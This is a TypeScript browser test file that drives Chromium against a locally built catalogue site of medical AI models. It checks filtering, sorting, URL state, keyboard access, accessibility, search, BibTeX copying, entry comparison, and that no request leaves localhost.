/**
 * The built site in a real Chromium (Debian's, driven by playwright-core) served on 127.0.0.1:
 * filters, sorting, the URL, history, JavaScript off, keyboard use, accessibility, and no request
 * to any other origin. The site was built with test/fixtures/metrics.json, so the numbers are known.
 */
import { readFile } from 'node:fs/promises';
import axe from 'axe-core';
import { parse as parseCsv } from 'csv-parse/sync';
import type { Browser, BrowserContext, Locator, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { FIXTURE_PAGE_SIZE } from './build.ts';
import { chromiumOnBuiltSite } from './chromium.ts';

const started = chromiumOnBuiltSite();
/** Every URL any page asked for, to prove nothing leaves 127.0.0.1. */
const requested = new Set<string>();

async function open(path: string, options: Parameters<Browser['newContext']>[0] = {}): Promise<{ page: Page; context: BrowserContext }> {
  const context = await started.browser.newContext({ viewport: { width: 1280, height: 900 }, ...options });
  const page = await context.newPage();
  page.on('request', (request) => requested.add(request.url()));
  await page.goto(`${started.site.origin}${path}`);
  return { page, context };
}

/** Slugs of the entries on show, in their order. */
async function shown(page: Page) {
  // The first view that needs the browse index waits for it, with the list marked busy.
  await page.waitForFunction(() => !document.querySelector('.entry-list[aria-busy="true"]'));
  return page.locator('.entry-list > li.entry').evaluateAll((items) => items.filter((li) => li.checkVisibility()).map((li) => (li as HTMLElement).dataset.slug));
}
/** An institute's checkbox, named by its label: the name and its count. */
const institute = (page: Page, name: string) => page.getByRole('checkbox', { name: new RegExp(`^${name} \\d+$`) });
/** Opens the finer filters (dates, access, modality, institutes) if they are folded (it is on a phone, not on a desktop). */
async function showMoreFilters(page: Page) {
  if ((await page.locator('details.more-filters').getAttribute('open')) === null) await page.locator('details.more-filters > summary').click();
}
const status = (page: Page) => page.locator('.result-count').textContent();
/**
 * Presses a button with the keyboard. For the buttons under a script-drawn list: its off-screen cards are
 * laid out as they scroll into view, which can move the button under a pointer click.
 */
async function activate(button: Locator) {
  await button.focus();
  await button.press('Enter');
}

const GOOGLE_LLMS = ['medgemma', 'ph-llm', 'med-gemini-2d-3d-polygenic', 'med-gemini', 'amie', 'codoc', 'med-palm-2', 'med-palm'];
const LLMS_BY_DATE = ('medgemma ph-llm internist-ai med-gemini-2d-3d-polygenic medversa hippocrates llama-3-8b-meditronv1-0 med-gemini ' +
  'openbiollm-70b biomistral amie meditron-70b asclepius radiology-llama2 codoc clinical-camel med-palm-2 medalpaca pmc-llama chatdoctor ' +
  'biomedlm-pubmedgpt clinicalt5 gatortron med-palm biogpt biobart kebiolm pretrained-language-models-for-biomedical-and-clinical-tasks ' +
  'biomegatron pubmedbert clinicalbert publicly-available-clinical-bert-embeddings biobert').split(' ');
/** Cards a page of the fixture build holds (test/site/build.ts). */
const PAGE = FIXTURE_PAGE_SIZE;
const LLMS_2023 = ['meditron-70b', 'asclepius', 'radiology-llama2', 'codoc', 'clinical-camel', 'med-palm-2', 'medalpaca', 'pmc-llama', 'chatdoctor'];

describe('filters on a section page', () => {
  it('filters by an institute, a parent taking in its children, and says how many match', async () => {
    const { page, context } = await open('/llms/');
    await showMoreFilters(page);
    await institute(page, 'Google').check();
    expect(await shown(page)).toEqual(GOOGLE_LLMS);
    expect(await status(page)).toBe('8 of 33 entries match, newest first.');
    expect(page.url()).toBe(`${started.site.origin}/llms/?institute=Google`);
    await context.close();
  });

  it('filters by a date range typed into the month fields, and by a year chosen from the quick list', async () => {
    const { page, context } = await open('/llms/');
    await showMoreFilters(page);
    await page.getByLabel('From', { exact: true }).fill('2023-01');
    await page.getByLabel('To', { exact: true }).fill('2023-12');
    expect(await shown(page)).toEqual(LLMS_2023);
    await page.getByLabel('Year').selectOption('2023');
    expect(await shown(page)).toEqual(LLMS_2023);
    expect(page.url()).toBe(`${started.site.origin}/llms/?year=2023`);
    await context.close();
  });

  it('combines an institute and a date range', async () => {
    const { page, context } = await open('/llms/');
    await showMoreFilters(page);
    await page.getByLabel('Year').selectOption('2024');
    await institute(page, 'Google').check();
    expect(await shown(page)).toEqual(['ph-llm', 'med-gemini-2d-3d-polygenic', 'med-gemini', 'amie']);
    // Counts beside the institutes follow the other filters.
    expect(await page.locator('[data-count-for="Google"]').textContent()).toBe('4');
    expect(await page.locator('[data-count-for="EPFL"]').textContent()).toBe('1');
    await context.close();
  });

  it('filters by access and modality where the entries state them', async () => {
    const { page, context } = await open('/llms/');
    await showMoreFilters(page);
    await page.getByRole('checkbox', { name: /^Gated weights \d+$/ }).check();
    expect(await shown(page)).toEqual(['medgemma']);
    await page.getByRole('checkbox', { name: /^Gated weights \d+$/ }).uncheck();
    await page.getByRole('checkbox', { name: /^Image \d+$/ }).check();
    expect(await shown(page)).toEqual(['medgemma']);
    expect(page.url()).toBe(`${started.site.origin}/llms/?modality=image`);
    const vision = await open('/vision/?modality=image&access=open-weights');
    expect(await shown(vision.page)).toEqual(['llava-med', 'biomedclip']);
    await vision.context.close();
    await context.close();
  });

  it("filters by the licence's kind and by the licence itself, the entry's own else the Hub's or GitHub's", async () => {
    const { page, context } = await open('/llms/');
    await showMoreFilters(page);
    await page.getByRole('checkbox', { name: /^Restricted licence \d+$/ }).check();
    expect(await shown(page)).toEqual(['medgemma', 'meditron-70b', 'med-palm-2']);
    expect(page.url()).toBe(`${started.site.origin}/llms/?license=restricted`);
    await page.getByRole('checkbox', { name: /^Restricted licence \d+$/ }).uncheck();
    await page.getByRole('checkbox', { name: /^Proprietary \(API terms\) \d+$/ }).check();
    expect(await shown(page)).toEqual(['med-palm-2']);
    expect(page.url()).toBe(`${started.site.origin}/llms/?license=proprietary-api`);
    const linked = await open('/llms/?license=open');
    expect(await shown(linked.page)).toEqual(['gatortron']);
    const named = await open('/llms/?license=llama-2-community');
    expect(await shown(named.page)).toEqual(['meditron-70b']);
    await Promise.all([linked.context.close(), named.context.close()]);
    await context.close();
  });

  it('filters by specialty, its counts and the institutes\' following each other, and keeps it in the URL', async () => {
    const { page, context } = await open('/llms/');
    await showMoreFilters(page);
    const specialty = (name: string) => page.getByRole('checkbox', { name: new RegExp(`^${name} \\d+$`) });
    const countOf = (box: ReturnType<typeof specialty>) => box.locator('xpath=..').locator('.facet-count').textContent();
    expect(await countOf(specialty('Radiology'))).toBe('5');
    await specialty('Radiology').check();
    expect(await shown(page)).toEqual(['medgemma', 'med-gemini-2d-3d-polygenic', 'medversa', 'radiology-llama2', 'codoc']);
    expect(await status(page)).toBe('5 of 33 entries match, newest first.');
    expect(page.url()).toBe(`${started.site.origin}/llms/?specialty=radiology`);
    // The institutes count within the specialty, and the specialties within the institutes chosen.
    expect(await countOf(institute(page, 'Google'))).toBe('3');
    await institute(page, 'Google').check();
    expect(await shown(page)).toEqual(['medgemma', 'med-gemini-2d-3d-polygenic', 'codoc']);
    expect(await countOf(specialty('Radiology'))).toBe('3');
    expect(await countOf(specialty('General medicine'))).toBe('6');
    await page.reload();
    expect(await specialty('Radiology').isChecked()).toBe(true);
    expect(await shown(page)).toEqual(['medgemma', 'med-gemini-2d-3d-polygenic', 'codoc']);
    await context.close();
  });

  it('filters by task, its counts and the other facets\' following each other, and keeps it in the URL', async () => {
    const { page, context } = await open('/llms/');
    await showMoreFilters(page);
    const choice = (name: string) => page.getByRole('checkbox', { name: new RegExp(`^${name} \\d+$`) });
    const countOf = (box: ReturnType<typeof choice>) => box.locator('xpath=..').locator('.facet-count').textContent();
    expect(await countOf(choice('Question answering'))).toBe('5');
    expect(await countOf(choice('Report generation'))).toBe('4');
    await choice('Report generation').check();
    expect(await shown(page)).toEqual(['medgemma', 'med-gemini-2d-3d-polygenic', 'medversa', 'radiology-llama2']);
    expect(await status(page)).toBe('4 of 33 entries match, newest first.');
    expect(page.url()).toBe(`${started.site.origin}/llms/?task=report-generation`);
    // The specialties and institutes count within the task, and the tasks within the institutes chosen.
    expect(await countOf(choice('Radiology'))).toBe('4');
    expect(await countOf(choice('General medicine'))).toBe('1');
    expect(await countOf(institute(page, 'Google'))).toBe('2');
    await institute(page, 'Google').check();
    expect(await shown(page)).toEqual(['medgemma', 'med-gemini-2d-3d-polygenic']);
    expect(await countOf(choice('Question answering'))).toBe('3');
    expect(await countOf(choice('Report generation'))).toBe('2');
    expect(await countOf(choice('Dialogue'))).toBe('1');
    expect(await countOf(choice('Summarisation'))).toBe('0');
    // A second task widens the view; a specialty narrows it.
    await choice('Dialogue').check();
    expect(await shown(page)).toEqual(['medgemma', 'med-gemini-2d-3d-polygenic', 'amie']);
    await choice('Radiology').check();
    expect(await shown(page)).toEqual(['medgemma', 'med-gemini-2d-3d-polygenic']);
    expect(page.url()).toBe(`${started.site.origin}/llms/?institute=Google&specialty=radiology&task=report-generation&task=dialogue`);
    await page.reload();
    expect(await choice('Dialogue').isChecked()).toBe(true);
    expect(await shown(page)).toEqual(['medgemma', 'med-gemini-2d-3d-polygenic']);
    const linked = await open('/vision/?task=dialogue');
    expect(await shown(linked.page)).toEqual(['llava-med']);
    await linked.context.close();
    await context.close();
  });

  it('matches text in title, summary and institute, ignoring case and accents', async () => {
    const { page, context } = await open('/llms/');
    await page.getByLabel('Search', { exact: true }).fill('universite LOUVAIN');
    expect(await shown(page)).toEqual(['internist-ai']);
    await page.getByLabel('Search', { exact: true }).fill('radiology');
    expect(await shown(page)).toEqual(['radiology-llama2']);
    await context.close();
  });

  it('matches a Hugging Face or GitHub id, or the account alone, as people copy them', async () => {
    const { page, context } = await open('/llms/');
    // BioBART's model is GanjinZero/biobart-v2-base, KeBioLM's repository GanjinZero/KeBioLM; neither card's text says GanjinZero.
    await page.getByLabel('Search', { exact: true }).fill('GanjinZero');
    expect(await shown(page)).toEqual(['biobart', 'kebiolm']);
    await page.getByLabel('Search', { exact: true }).fill('ganjinzero/biobart-v2-base');
    expect(await shown(page)).toEqual(['biobart']);
    await context.close();
  });

  it('says so when nothing matches, and clears every filter in one action', async () => {
    const { page, context } = await open('/llms/?year=2019&institute=EPFL');
    expect(await shown(page)).toEqual([]);
    await expect.poll(() => page.locator('.empty-state').isVisible()).toBe(true);
    expect(await status(page)).toBe('0 of 33 entries match, newest first.');
    await page.locator('.empty-state').getByRole('button', { name: 'Clear filters' }).click();
    expect(await shown(page)).toEqual(LLMS_BY_DATE.slice(0, PAGE));
    expect(await page.getByRole('button', { name: 'Show 13 more' }).isVisible()).toBe(true);
    expect(page.url()).toBe(`${started.site.origin}/llms/`);
    expect(await page.locator('.empty-state').isVisible()).toBe(false);
    await context.close();
  });
});

describe('sorting by the numbers of the metrics file', () => {
  it.each([
    ['citations', ['meditron-70b', 'ph-llm'], 'most cited'],
    ['stars', ['meditron-70b', 'biobert'], 'most GitHub stars'],
    ['likes', ['medgemma', 'meditron-70b', 'gatortron'], 'most Hugging Face likes'],
    ['downloads', ['medgemma', 'gatortron', 'meditron-70b'], 'most downloaded'],
  ])('sorts by %s, entries without a number last by date', async (sort, withNumbers, words) => {
    const { page, context } = await open('/llms/');
    expect(await shown(page)).toEqual(LLMS_BY_DATE.slice(0, PAGE));
    await page.getByLabel('Sort by').selectOption(sort);
    const sorted = [...withNumbers, ...LLMS_BY_DATE.filter((slug) => !withNumbers.includes(slug))];
    expect(await shown(page)).toEqual(sorted.slice(0, PAGE));
    expect(await status(page)).toBe(`Showing ${PAGE}: 33 entries, ${words} first.`);
    // The rest of the list comes from the index in the same order, entries without a number last.
    await activate(page.getByRole('button', { name: 'Show 13 more' }));
    expect(await shown(page)).toEqual(sorted);
    expect(page.url()).toBe(`${started.site.origin}/llms/?sort=${sort}`);
    await context.close();
  });

  it('does not pretend to sort a list by a number none of its entries has: the link keeps the newest-first order and says so', async () => {
    // No survey of the fixture has a fetched number.
    const { page, context } = await open('/surveys/?sort=citations');
    const sort = page.getByLabel('Sort by');
    await expect.poll(() => sort.inputValue()).toBe('date');
    expect(await sort.locator('option[value="citations"]').isDisabled()).toBe(true);
    expect(await sort.locator('option[value="citations"]').textContent()).toBe('Most cited (no numbers yet)');
    await page.getByRole('radio', { name: 'Table' }).check();
    await expect.poll(() => page.locator('table.list-table thead').textContent()).not.toContain('Citations');
    await context.close();
  });
});

describe('the view in the URL', () => {
  it('restores a shared link: filters, sort and the form', async () => {
    const { page, context } = await open('/llms/?institute=Google&year=2024&sort=citations');
    expect(await shown(page)).toEqual(['ph-llm', 'med-gemini-2d-3d-polygenic', 'med-gemini', 'amie']);
    expect(await institute(page, 'Google').isChecked()).toBe(true);
    expect(await page.getByLabel('Year').inputValue()).toBe('2024');
    expect(await page.getByLabel('Sort by').inputValue()).toBe('citations');
    expect(await page.locator('details.more-filters').getAttribute('open')).not.toBeNull();
    await context.close();
  });

  it('goes back and forward through views, and reload keeps the view', async () => {
    const { page, context } = await open('/llms/');
    await showMoreFilters(page);
    await institute(page, 'Google').check();
    await page.getByLabel('Year').selectOption('2023');
    expect(await shown(page)).toEqual(['codoc', 'med-palm-2']);
    await page.goBack();
    expect(page.url()).toBe(`${started.site.origin}/llms/?institute=Google`);
    expect(await shown(page)).toEqual(GOOGLE_LLMS);
    expect(await page.getByLabel('Year').inputValue()).toBe('');
    await page.goBack();
    expect(await shown(page)).toEqual(LLMS_BY_DATE.slice(0, PAGE));
    await page.goForward();
    expect(await shown(page)).toEqual(GOOGLE_LLMS);
    await page.reload();
    expect(await shown(page)).toEqual(GOOGLE_LLMS);
    await context.close();
  });
});

describe('without JavaScript', () => {
  it('lists every entry by date through the page links, and shows no controls', async () => {
    const { page, context } = await open('/llms/?institute=Google', { javaScriptEnabled: false });
    expect(await page.locator('form.filters').isVisible()).toBe(false);
    const first = await shown(page);
    expect(first).toEqual(LLMS_BY_DATE.slice(0, PAGE));
    await page.getByRole('link', { name: 'Next' }).click();
    expect(page.url()).toBe(`${started.site.origin}/llms/2/`);
    expect([...first, ...(await shown(page))]).toEqual(LLMS_BY_DATE);
    await page.getByRole('link', { name: '1', exact: true }).click();
    expect(page.url()).toBe(`${started.site.origin}/llms/`);
    await context.close();
  });

  it('reaches the entries of a task through its plain pages, and lists every entry on a section page whose link names a task', async () => {
    const { page, context } = await open('/llms/?task=dialogue', { javaScriptEnabled: false });
    expect(await shown(page)).toEqual(LLMS_BY_DATE.slice(0, PAGE));
    await page.getByRole('link', { name: 'Tasks', exact: true }).click();
    expect(page.url()).toBe(`${started.site.origin}/tasks/`);
    await page.getByRole('link', { name: 'Report generation', exact: true }).click();
    expect(page.url()).toBe(`${started.site.origin}/tasks/report-generation/`);
    expect(await shown(page)).toEqual(['medgemma', 'med-gemini-2d-3d-polygenic', 'medversa', 'radiology-llama2']);
    await context.close();
  });
});

describe('keyboard only', () => {
  it('reaches and works every control with Tab, typing, Enter and Space (on a phone, where the filters fold)', async () => {
    const { page, context } = await open('/llms/', { viewport: { width: 375, height: 800 } });
    expect(await page.locator('details.more-filters').getAttribute('open')).toBeNull();
    const focusedName = () => page.evaluate(() => (document.activeElement as HTMLInputElement | null)?.name || document.activeElement?.tagName);
    await page.getByLabel('Search', { exact: true }).focus();
    await page.keyboard.type('clinical');
    expect(await shown(page)).toContain('clinical-camel');
    // On a phone the rest of the filters wait behind one button.
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toMatch(/^Filters/);
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    expect(await focusedName()).toBe('sort');
    await page.keyboard.press('Tab');
    expect(await focusedName()).toBe('result');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('How results differ');
    await page.keyboard.press('Tab');
    expect(await focusedName()).toBe('SUMMARY');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    expect(await focusedName()).toBe('year');
    // The month fields take a Tab per part (month, year); on to the first checkbox (access, modality, institute).
    const isCheckbox = () => page.evaluate(() => (document.activeElement as HTMLInputElement | null)?.type === 'checkbox');
    const passed: string[] = [];
    for (let presses = 0; presses < 8 && !(await isCheckbox()); presses++) {
      await page.keyboard.press('Tab');
      passed.push(String(await focusedName()));
    }
    expect(passed).toContain('from');
    expect(passed).toContain('to');
    expect(await isCheckbox()).toBe(true);
    await page.keyboard.press('Space');
    const [name, value] = await page.evaluate(() => [(document.activeElement as HTMLInputElement).name, (document.activeElement as HTMLInputElement).value]);
    expect(page.url()).toContain(`${name}=${encodeURIComponent(value!).replace(/%20/g, '+')}`);
    // Focus is visible: the outline of :focus-visible.
    const outline = await page.evaluate(() => getComputedStyle(document.activeElement!).outlineStyle);
    expect(outline).toBe('solid');
    await context.close();
  });
});

describe('accessibility (axe-core) in both colour schemes', () => {
  const PAGES = ['/', '/llms/', '/entries/', '/entries/meditron-70b/', '/institutes/', '/institutes/google/', '/specialties/', '/tasks/', '/tasks/report-generation/', '/base-models/', '/base-models/llama-2/', '/benchmarks/', '/benchmarks/medqa/', '/compare/?ids=meditron-70b,medgemma', '/llms/?view=table&institute=Google', '/llms/?view=table&sort=result&result=medqa.us-4-option-test.accuracy', '/insights/', '/rising/', '/search/'];
  for (const colorScheme of ['light', 'dark'] as const) {
    it.each(PAGES)(`%s has no violations (${colorScheme})`, async (path) => {
      const { page, context } = await open(path, { colorScheme });
      // Views the script draws (a table, a comparison) are checked once drawn.
      await page.waitForFunction(() => !document.querySelector('.entry-list[aria-busy="true"]'));
      if (path.includes('?')) await page.waitForSelector('[data-table] table, compare-view table');
      await page.evaluate(axe.source); // evaluated by the devtools protocol, which the page's CSP does not govern
      const violations = await page.evaluate(async () => {
        const result = await (window as unknown as { axe: { run: () => Promise<{ violations: { id: string; nodes: unknown[] }[] }> } }).axe.run();
        return result.violations.map((v) => `${v.id} (${v.nodes.length})`);
      });
      expect(violations).toEqual([]);
      await context.close();
    });
  }
});

describe('requests', () => {
  it('never leave 127.0.0.1 (checked over every page the tests opened)', () => {
    expect(requested.size).toBeGreaterThan(10);
    expect([...requested].filter((url) => !url.startsWith(`${started.site.origin}/`))).toEqual([]);
  });
});

describe('full-text search', () => {
  it('loads its index only when someone types, and finds entries by any of their text, institute aliases and paper ids too', async () => {
    const { page, context } = await open('/search/');
    const before = [...requested].filter((url) => url.includes('/pagefind/'));
    expect(before).toEqual([]);
    await page.getByLabel('Search the list', { exact: true }).fill('Bari');
    await expect.poll(() => page.locator('[data-search-results] a').count()).toBeGreaterThan(0);
    const links = await page.locator('[data-search-results] a').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).pathname));
    expect(links).toContain('/entries/integrating-human-expertise-automated-methods-for-a-dynamic/');
    expect(page.url()).toBe(`${started.site.origin}/search/?q=Bari`);
    expect([...requested].some((url) => url.includes('/pagefind/'))).toBe(true);
    // An institute's alias finds its entries, and the excerpt marks the match.
    await page.getByLabel('Search the list', { exact: true }).fill('UCLouvain');
    await expect.poll(() => page.locator('[data-search-results] a').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).pathname))).toEqual(['/entries/internist-ai/']);
    expect(await page.locator('[data-search-results] mark').first().textContent()).toContain('UCLouvain');
    expect(await page.locator('[data-search-status]').textContent()).toBe('1 entry matches.');
    // So does a paper's arXiv number.
    await page.getByLabel('Search the list', { exact: true }).fill('2311.16079');
    await expect.poll(() => page.locator('[data-search-results] a').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).pathname))).toContain('/entries/meditron-70b/');
    // And a task's name.
    await page.getByLabel('Search the list', { exact: true }).fill('Summarisation');
    await expect.poll(() => page.locator('[data-search-results] a').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).pathname))).toContain('/entries/radiology-llama2/');
    await context.close();
  });

  it('is not loaded by the list pages', async () => {
    const { page, context } = await open('/llms/');
    const loaded = await page.evaluate(() => performance.getEntriesByType('resource').map((r) => r.name));
    expect(loaded.filter((url) => url.includes('pagefind'))).toEqual([]);
    await context.close();
  });

  it('is reached from the search box of the home page, by keyboard, with what was typed', async () => {
    const { page, context } = await open('/');
    await page.getByRole('searchbox', { name: 'Search the list' }).fill('UCLouvain');
    await page.keyboard.press('Enter');
    await page.waitForURL(`${started.site.origin}/search/?q=UCLouvain`);
    await expect.poll(() => page.locator('[data-search-results] a').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).pathname))).toEqual(['/entries/internist-ai/']);
    await context.close();
  });
});

describe('insight charts in the browser', () => {
  it('shows five charts, each an image with a name, in both schemes', async () => {
    for (const colorScheme of ['light', 'dark'] as const) {
      const { page, context } = await open('/insights/', { colorScheme });
      const charts = page.locator('figure.chart svg[role="img"]');
      expect(await charts.count()).toBe(5);
      for (const chart of await charts.all()) {
        expect(await chart.isVisible()).toBe(true);
        expect((await chart.boundingBox())!.height).toBeGreaterThan(50);
      }
      await context.close();
    }
  });
});

describe('copying BibTeX', () => {
  it('copies an entry\'s BibTeX from its page, and that of a filtered view from a list', async () => {
    const { page, context } = await open('/entries/meditron-70b/', { permissions: ['clipboard-read', 'clipboard-write'] });
    await page.getByRole('button', { name: 'Copy BibTeX' }).click();
    await expect.poll(() => page.locator('[data-copy-status]').textContent()).toBe('Copied to the clipboard.');
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    // The paper under its own title and authors (the fixture's meditron-70b has them).
    expect(copied).toMatch(/^@article\{meditron-70b,\n\tauthor = \{Chen, Zeming and Cano, Alejandro Hern/);
    expect(copied).toMatch(/\n\ttitle = \{[^\n]*MEDITRON.*-70B: Scaling/);
    await page.getByRole('button', { name: 'Copy RIS' }).click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toMatch(/^TY {2}- JOUR\n/);

    await page.goto(`${started.site.origin}/llms/?institute=Google&year=2024`);
    await page.getByRole('button', { name: 'Copy BibTeX of these entries' }).click();
    await expect.poll(() => page.locator('.results-head [data-copy-status]').textContent()).toBe('Copied BibTeX of 4 entries.');
    const view = await page.evaluate(() => navigator.clipboard.readText());
    expect([...view.matchAll(/^@misc\{([a-z0-9-]+),/gm)].map((m) => m[1])).toEqual(['ph-llm', 'med-gemini-2d-3d-polygenic', 'med-gemini', 'amie']);
    await context.close();
  });
});

describe('long lists: one page of cards in the HTML, the rest from the browse index', () => {
  const cardsOf = (page: Page) => page.locator('.entry-list > li.entry').evaluateAll((items) => items.map((li) => li.outerHTML));

  it('draws the cards it adds exactly as the build drew them on the next page', async () => {
    for (const [list, showMore] of [['/llms/', 'Show 13 more'], ['/entries/', 'Show 20 more']] as const) {
      const next = await open(`${list}2/`);
      const built = await cardsOf(next.page);
      await next.context.close();
      const { page, context } = await open(list);
      await activate(page.getByRole('button', { name: showMore }));
      await shown(page);
      expect((await cardsOf(page)).slice(PAGE)).toEqual(built);
      await context.close();
    }
  });

  it('fetches the index only when a view needs it, once, and filters every entry of the list from any page', async () => {
    const { page, context } = await open('/llms/2/');
    const indexRequests = () => [...requested].filter((url) => url.endsWith('/data/browse/llms.json')).length;
    const before = indexRequests();
    expect(await shown(page)).toEqual(LLMS_BY_DATE.slice(PAGE));
    expect(indexRequests()).toBe(before);
    await showMoreFilters(page);
    await institute(page, 'Google').check();
    // Google's entries are on the first page of the list: found all the same.
    expect(await shown(page)).toEqual(GOOGLE_LLMS);
    expect(await page.locator('nav.pagination').isVisible()).toBe(false);
    await page.getByLabel('Sort by').selectOption('citations');
    expect(await shown(page)).toEqual(['ph-llm', 'medgemma', 'med-gemini-2d-3d-polygenic', 'med-gemini', 'amie', 'codoc', 'med-palm-2', 'med-palm']);
    const timings = await page.evaluate(() => performance.getEntriesByType('resource').filter((r) => r.name.includes('/data/browse/')).map((r) => new URL(r.name).pathname));
    expect(timings).toEqual(['/data/browse/llms.json']);
    await context.close();
  });
});

describe('model lineage', () => {
  it('links an entry to the family it is built on and back, and a base entry to the models built on it', async () => {
    const { page, context } = await open('/entries/biobert/');
    const builtOn = page.locator('.facts div', { hasText: 'Models built on it' });
    await builtOn.getByRole('link', { name: 'Publicly Available Clinical BERT Embeddings' }).click();
    expect(page.url()).toBe(`${started.site.origin}/entries/publicly-available-clinical-bert-embeddings/`);
    await page.locator('.facts').getByRole('link', { name: 'BioBERT' }).click();
    expect(page.url()).toBe(`${started.site.origin}/base-models/biobert/`);
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Built on BioBERT');
    expect(await shown(page)).toEqual(['publicly-available-clinical-bert-embeddings']);
    await context.close();
  });
});

describe('comparing entries', () => {
  it('puts three entries side by side from their pages, marks the differences, and reloads from the link', async () => {
    const { page, context } = await open('/entries/meditron-70b/');
    await page.getByRole('button', { name: 'Add to comparison' }).click();
    await page.goto(`${started.site.origin}/entries/biomistral/`);
    // From the keyboard too.
    await page.getByRole('button', { name: 'Add to comparison' }).focus();
    await page.keyboard.press('Enter');
    await page.goto(`${started.site.origin}/entries/medgemma/`);
    await page.getByRole('button', { name: 'Add to comparison' }).click();
    await page.getByRole('link', { name: 'Compare 3 entries' }).click();
    expect(page.url()).toBe(`${started.site.origin}/compare/?ids=meditron-70b,biomistral,medgemma`);
    const table = page.locator('compare-view table');
    await expect.poll(() => table.count()).toBe(1);
    const headers = () => table.locator('thead th a').allTextContents();
    expect(await headers()).toEqual(['MEDITRON-70B', 'BioMistral', 'MedGemma']);
    // The fixture site has no address: the open data's page is a path, which the header links as it is.
    expect(await table.locator('thead a').first().getAttribute('href')).toBe('/entries/meditron-70b/');
    const row = (label: string) => table.locator('tbody tr', { has: page.locator(`th:text-is("${label}")`) }).or(table.locator('tbody tr', { has: page.locator(`th:has-text("${label} (differs)")`) }));
    // Labels and links, not the entry format's slugs.
    expect(await row('Access').locator('td').allTextContents()).toEqual(['Open weights', 'Open weights', 'Gated weights']);
    expect(await row('Section').locator('td').allTextContents()).toEqual(['Large Language Models', 'Large Language Models', 'Large Language Models']);
    expect(await row('Hugging Face').locator('td').first().locator('a').getAttribute('href')).toBe('https://huggingface.co/epfl-llm/meditron-70b');
    expect(await row('Access').getAttribute('class')).toBe('differs');
    expect(await row('Citations').locator('td').allTextContents()).toEqual(['1.2k as of Nov 20, 2026', 'unknown', 'unknown']);
    await page.reload();
    await expect.poll(() => table.count()).toBe(1);
    expect(await headers()).toEqual(['MEDITRON-70B', 'BioMistral', 'MedGemma']);
    await context.close();
  });

  it('takes an entry out and adds one by its title on the comparison itself, the address and the choice following', async () => {
    const { page, context } = await open('/compare/?ids=meditron-70b,biomistral,medgemma');
    const columns = () => page.locator('compare-view thead th a').allTextContents();
    await expect.poll(columns).toEqual(['MEDITRON-70B', 'BioMistral', 'MedGemma']);
    await page.getByRole('button', { name: 'Remove BioMistral' }).click();
    await expect.poll(columns).toEqual(['MEDITRON-70B', 'MedGemma']);
    expect(page.url()).toBe(`${started.site.origin}/compare/?ids=meditron-70b,medgemma`);
    expect(await page.locator('[data-status]').textContent()).toMatch(/^Comparing 2 entries\./);
    const fetched: string[] = [];
    page.on('request', (request) => fetched.push(new URL(request.url()).pathname));
    await page.getByLabel('Add an entry by its title').fill('PMC-LLaMA');
    await page.keyboard.press('Enter');
    await expect.poll(columns).toEqual(['MEDITRON-70B', 'MedGemma', 'PMC-LLaMA']);
    expect(page.url()).toBe(`${started.site.origin}/compare/?ids=meditron-70b,medgemma,pmc-llama`);
    // The titles come from one small file, not from the list pages' indexes.
    expect(fetched.filter((path) => path.startsWith('/data/') && !/^\/data\/compare\/\d+\.json$/.test(path))).toEqual(['/data/compare/titles.json']);
    await page.getByLabel('Add an entry by its title').fill('No such model');
    await page.keyboard.press('Enter');
    await expect.poll(() => page.locator('[data-add-note]').textContent()).toBe('No entry of the list is titled "No such model": choose one of the titles offered as you type.');
    await page.getByLabel('Add an entry by its title').fill('BioMistral');
    await page.keyboard.press('Enter');
    await expect.poll(columns).toEqual(['MEDITRON-70B', 'MedGemma', 'PMC-LLaMA', 'BioMistral']);
    // Full: the Add button is off and says why.
    expect(await page.getByRole('button', { name: 'Add', exact: true }).isDisabled()).toBe(true);
    expect(await page.locator('[data-add-note]').textContent()).toBe('The comparison is full (4 of 4): remove one to add another.');
    // The entry pages know the choice: a fifth is refused, with the reason beside the button.
    await page.goto(`${started.site.origin}/entries/biobert/`);
    const add = page.getByRole('button', { name: 'Add to comparison' });
    expect(await add.isDisabled()).toBe(true);
    expect(await page.locator('#compare-note').textContent()).toBe('The comparison is full (4 of 4): remove one to add another.');
    expect(await page.getByRole('link', { name: 'Compare 4 entries' }).getAttribute('href')).toBe('/compare/?ids=meditron-70b,medgemma,pmc-llama,biomistral');
    await context.close();
  });

  it('shows every result of every compared entry, lined up where they share a benchmark, variant and metric', async () => {
    const { page, context } = await open('/compare/?ids=meditron-70b,llava-med');
    const table = page.locator('compare-view table');
    await expect.poll(() => table.count()).toBe(1);
    const labels = await table.locator('tbody th').allTextContents();
    // The two share no benchmark: every result of each is still shown, "not reported" beside it.
    const medqa = table.locator('tbody tr', { has: page.locator('th', { hasText: 'MedQA (USMLE) · USMLE, English, 4 options, test · Accuracy' }) });
    expect(await medqa.locator('td').allTextContents()).toEqual([expect.stringMatching(/^70\.20% \(MediTron-70B \(Ensemble, 5 runs\); /), 'not reported']);
    expect(labels.some((label) => label.startsWith('VQA-RAD'))).toBe(true);
    const vqa = table.locator('tbody tr', { has: page.locator('th', { hasText: 'VQA-RAD' }) }).first();
    expect((await vqa.locator('td').allTextContents())[0]).toBe('not reported');
    await context.close();
  });

  it('says what it needs without JavaScript', async () => {
    const { page, context } = await open('/compare/?ids=meditron-70b,biomistral', { javaScriptEnabled: false });
    expect(await page.locator('compare-view').textContent()).toContain('Comparing needs JavaScript');
    await context.close();
  });
});

describe('filters on a benchmark page', () => {
  const medqaRows = (page: Page) =>
    page.locator('#us-4-option-test--accuracy-heading ~ section table.results-table tbody tr').evaluateAll((rows) =>
      (rows as HTMLTableRowElement[]).filter((tr) => tr.checkVisibility()).map((tr) => [tr.className, tr.querySelector('th')!.textContent, tr.cells[6]!.textContent, tr.cells[5]!.textContent]),
    );

